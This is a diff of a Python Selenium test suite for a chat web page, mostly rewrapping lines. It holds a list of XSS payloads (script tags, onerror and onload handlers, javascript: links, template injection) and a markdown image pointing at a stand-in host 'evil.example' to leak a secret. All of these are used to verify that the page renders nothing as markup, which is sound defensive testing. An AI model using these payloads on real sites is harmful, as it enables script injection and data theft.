@@ -21,10 +21,12 @@ ENTER, ESCAPE, SHIFT = "\ue007", "\ue00c", "\ue008"
 XSS = [
     "<script>window.hacked = 1</script>", "<img src=x onerror='window.hacked=1'>", "<svg onload=window.hacked=1>",
     "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>", "[click](javascript:window.hacked=1)",
-    "![x](https://evil.example/?q=secret)", "<a href='javascript:window.hacked=1'>x</a>", "</div></article><h1>out</h1>",
-    "`<img src=x onerror=window.hacked=1>`", "```html\n<script>window.hacked=1</script>\n```", "**<b onclick=hacked=1>x</b>**",
-    "- <details open ontoggle=window.hacked=1>", "# <style>*{display:none}</style>", "<math><mtext><script>hacked=1</script>",
-    "&lt;script&gt;", "\u202e<b>rtl</b>", "{{constructor.constructor('window.hacked=1')()}}", "<!--", "]]>", "javascript:hacked=1",
+    "![x](https://evil.example/?q=secret)", "<a href='javascript:window.hacked=1'>x</a>",
+    "</div></article><h1>out</h1>", "`<img src=x onerror=window.hacked=1>`",
+    "```html\n<script>window.hacked=1</script>\n```", "**<b onclick=hacked=1>x</b>**",
+    "- <details open ontoggle=window.hacked=1>", "# <style>*{display:none}</style>",
+    "<math><mtext><script>hacked=1</script>", "&lt;script&gt;", "\u202e<b>rtl</b>",
+    "{{constructor.constructor('window.hacked=1')()}}", "<!--", "]]>", "javascript:hacked=1",
 ]
 
 
@@ -52,7 +54,8 @@ class Page:
         self.open()
 
     def open(self):
-        self.driver.get(f"{self.url}/?{next(self.num_loads)}")  # an address that differs only after # is not loaded again
+        # an address that differs only after # would not be loaded again
+        self.driver.get(f"{self.url}/?{next(self.num_loads)}")
         wait_until(lambda: self.text("#model-name") == "nanochat-d4-rl")
 
     def js(self, script, *args):
@@ -60,8 +63,8 @@ class Page:
 
     def js_module(self, script):
         """The value of an async function body, run in the page."""
-        return self.driver.execute_async_script("const done = arguments[0]; (async () => {" + script + "})().then(done, "
-                                                "(error) => done(`failed: ${error.stack}`))")
+        return self.driver.execute_async_script(
+            "const done = arguments[0]; (async () => {" + script + "})().then(done, (error) => done(error.stack))")
 
     def all(self, css):
         return self.driver.find_elements("css selector", css)
@@ -158,7 +161,8 @@ def test_the_history_goes_along_with_its_tool_calls(page, engine):
     page.ask("Thanks")
     text = bytes(i for i in engine.prompts[1] if i < 256).decode()
     assert text == "What is 417 + 286?Let me see: 417 + 286703It is **703**.Thanks"
-    assert len([i for i in engine.prompts[1] if i >= 256]) == 1 + 2 + 2 + 4 + 3  # bos, two turns, the call, the last turn
+    num_special = len([i for i in engine.prompts[1] if i >= 256])
+    assert num_special == 1 + 2 + 2 + 4 + 3  # bos, two turns, the call, the last turn
     assert (engine.params[0].temperature, engine.params[0].max_tokens) == (0.6, 256)
 
 
@@ -203,7 +207,8 @@ def test_a_suggestion_is_a_message(page):
 def test_settings_go_along_and_survive_a_reload(page, engine):
     page.click("#open-settings")
     page.js("const set = (id, value) => { const field = document.getElementById(id); field.value = value;"
-            "field.dispatchEvent(new Event('input')); }; set('temperature', 0); set('top_p', 0.5); set('max_tokens', 17);")
+            "field.dispatchEvent(new Event('input')); };"
+            "set('temperature', 0); set('top_p', 0.5); set('max_tokens', 17);")
     page.open()
     page.ask("Hi")
     assert (engine.params[0].temperature, engine.params[0].top_p, engine.params[0].max_tokens) == (0, 0.5, 17)
@@ -257,8 +262,9 @@ def test_a_server_that_is_gone_is_said_so(page):
 
 
 def test_a_stream_that_ends_early_is_no_answer(page):
-    page.js("""window.fetch = async () => new Response('data: {"choices":[{"index":0,"delta":{"parts":[{"type":"text","text":"Ha"}]},'
-            + '"finish_reason":null}]}\\n\\ndata: {"choices":[{"in')""")
+    chunk = {"choices": [{"index": 0, "delta": {"parts": [{"type": "text", "text": "Ha"}]}, "finish_reason": None}]}
+    page.js("const body = arguments[0]; window.fetch = async () => new Response(body)",
+            f'data: {json.dumps(chunk)}\n\ndata: {{"choices":[{{"in')
     page.ask("Hi")
     assert page.text(".turn.assistant .text") == "Ha" and "lost" in page.text(".error")
 
@@ -312,12 +318,14 @@ def test_an_answer_goes_on_while_another_chat_is_open(page, engine):
 
 
 def test_storage_that_others_wrote_does_not_break_the_page(page):
-    for number, value in enumerate(["{", "null", "[]", '{"id":1}', '{"id":"a","title":"x","messages":[{"role":"assistant"}]}',
+    for number, value in enumerate(["{", "null", "[]", '{"id":1}',
+                                    '{"id":"a","title":"x","messages":[{"role":"assistant"}]}',
                                     '{"id":"a","title":"x","messages":[{"role":"user","content":{"a":1}}]}']):
         page.js("localStorage.setItem('nanochat.chat.' + arguments[0], arguments[1])", number, value)
     page.js("localStorage.setItem('nanochat.settings', '{\"temperature\": \"hot\", \"top_p\": 9, \"model\": 1}')")
-    page.js("localStorage.setItem('nanochat.chat.z', JSON.stringify({id: 'z', title: '<b>t</b>', updated: 'soon', messages: "
-            "[{role: 'user', content: '<img src=x onerror=hacked=1>'}]}))")
+    chat = {"id": "z", "title": "<b>t</b>", "updated": "soon",
+            "messages": [{"role": "user", "content": "<img src=x onerror=hacked=1>"}]}
+    page.js("localStorage.setItem('nanochat.chat.z', arguments[0])", json.dumps(chat))
     page.open()
     assert page.texts(".chat") == ["<b>t</b>"]
     page.click(".chat")
@@ -335,8 +343,8 @@ def test_nothing_a_model_or_a_person_writes_becomes_markup(page):
         page.js("document.getElementById('message').value = arguments[0]", attack)
         page.ask(" ")
     assert page.js("return window.hacked") is None
-    allowed = {"article", "div", "p", "pre", "code", "h3", "ul", "ol", "li", "strong", "em", "span", "footer", "button", "svg",
-               "use"}
+    allowed = {"article", "div", "p", "pre", "code", "h3", "ul", "ol", "li", "strong", "em", "span", "footer", "button",
+               "svg", "use"}
     assert set(page.js("return [...document.querySelectorAll('#log *')].map((node) => node.localName)")) <= allowed
     attributes = page.js("return [...document.querySelectorAll('#log *')].flatMap((node) => node.getAttributeNames())")
     assert set(attributes) <= {"class", "aria-label", "aria-hidden", "role", "href", "title", "type", "start"}
@@ -357,7 +365,8 @@ def test_the_browser_itself_refuses_markup_from_strings(page):
 
 MARKDOWN = [
     ("one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"),
-    ("**bold** and *it* and _it_ and __b__", "<p><strong>bold</strong> and <em>it</em> and <em>it</em> and <strong>b</strong></p>"),
+    ("**bold** and *it*", "<p><strong>bold</strong> and <em>it</em></p>"),
+    ("_it_ and __b__", "<p><em>it</em> and <strong>b</strong></p>"),
     ("2*3*4 = 24, a*b, snake_case_name, 5 * 6 * 7", "<p>2*3*4 = 24, a*b, snake_case_name, 5 * 6 * 7</p>"),
     ("a*b* c and f_1_ x", "<p>a*b* c and f_1_ x</p>"),
     ("`a*b*c` and ``x ` y``", "<p><code>a*b*c</code> and <code>x ` y</code></p>"),
@@ -410,7 +419,8 @@ def test_the_event_reader_does_not_care_where_the_network_cuts(page):
         };
         const results = new Set();
         for (const end of ['\\n', '\\r\\n', '\\r']) {
-          const text = [': hello', '', 'data: {"a":"é🦊"}', '', 'event: x', 'data:one', 'data: two', '', '', 'data: [DONE]', '', 'data: cut'].join(end);
+          const text = [': hello', '', 'data: {"a":"é🦊"}', '', 'event: x', 'data:one', 'data: two', '', '',
+                        'data: [DONE]', '', 'data: cut'].join(end);
           const bytes = new TextEncoder().encode(text);
           results.add(await read([bytes]));
           results.add(await read([...bytes].map((byte) => new Uint8Array([byte]))));
@@ -425,8 +435,9 @@ def test_the_event_reader_does_not_care_where_the_network_cuts(page):
 
 def test_every_control_has_a_name_and_the_log_is_one(page):
     page.ask("What is 417 + 286?")
-    unnamed = page.js("return [...document.querySelectorAll('button, input, textarea')].filter((node) => !(node.ariaLabel"
-                      " || node.textContent.trim() || node.labels?.length)).map((node) => node.outerHTML)")
+    unnamed = page.js("const hasName = (node) => node.ariaLabel || node.textContent.trim() || node.labels?.length;"
+                      "return [...document.querySelectorAll('button, input, textarea')]"
+                      ".filter((node) => !hasName(node)).map((node) => node.outerHTML)")
     assert unnamed == []
     log = page.all("#log")[0]
     assert (log.get_attribute("role"), log.get_attribute("aria-live")) == ("log", "off")
@@ -439,15 +450,17 @@ def test_nothing_sticks_out_of_a_phone_and_the_list_is_a_drawer(page, width, hei
     page.open()
     page.ask("x" * 300)
     page.ask("What is 417 + 286?")
-    wide = page.js("return [...document.querySelectorAll('main, main *')].filter((node) => node.getBoundingClientRect().right >"
-                   " innerWidth + 1 && !node.closest('pre')).map((node) => node.outerHTML.slice(0, 80))")
+    wide = page.js("const isWide = (node) => !node.closest('pre') && node.getBoundingClientRect().right > innerWidth + 1;"
+                   "return [...document.querySelectorAll('main, main *')].filter(isWide)"
+                   ".map((node) => node.outerHTML.slice(0, 80))")
     assert wide == [] and page.js("return document.documentElement.scrollWidth <= innerWidth")
     composer = page.js("return document.getElementById('composer').getBoundingClientRect().bottom")
     assert composer <= height
     assert not page.all("#new-chat")[0].is_displayed() and page.js("return document.getElementById('sidebar').inert")
     page.click("#open-sidebar")
     wait_until(lambda: page.js("return document.getElementById('sidebar').getBoundingClientRect().left") == 0)
-    assert page.js("return document.activeElement.id") == "new-chat" and page.js("return document.getElementById('main').inert")
+    assert page.js("return document.activeElement.id") == "new-chat"
+    assert page.js("return document.getElementById('main').inert")
     page.all("#new-chat")[0].send_keys(ESCAPE)
     wait_until(lambda: not page.all("#new-chat")[0].is_displayed())
     assert page.js("return document.activeElement.id") == "open-sidebar"
@@ -491,7 +504,8 @@ def test_text_can_be_read(page, theme):
           const isText = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
           if (!isText || !node.checkVisibility() || node.closest('noscript, .unseen')) continue;
           const [a, b] = [parse(getComputedStyle(node).color), behind(node)].map(luminance);
-          ratios[`${node.localName}.${node.className}: ${node.textContent.slice(0, 30)}`] = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
+          const name = `${node.localName}.${node.className}: ${node.textContent.slice(0, 30)}`;
+          ratios[name] = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
         }
         return ratios;""")
     assert len(ratios) > 15
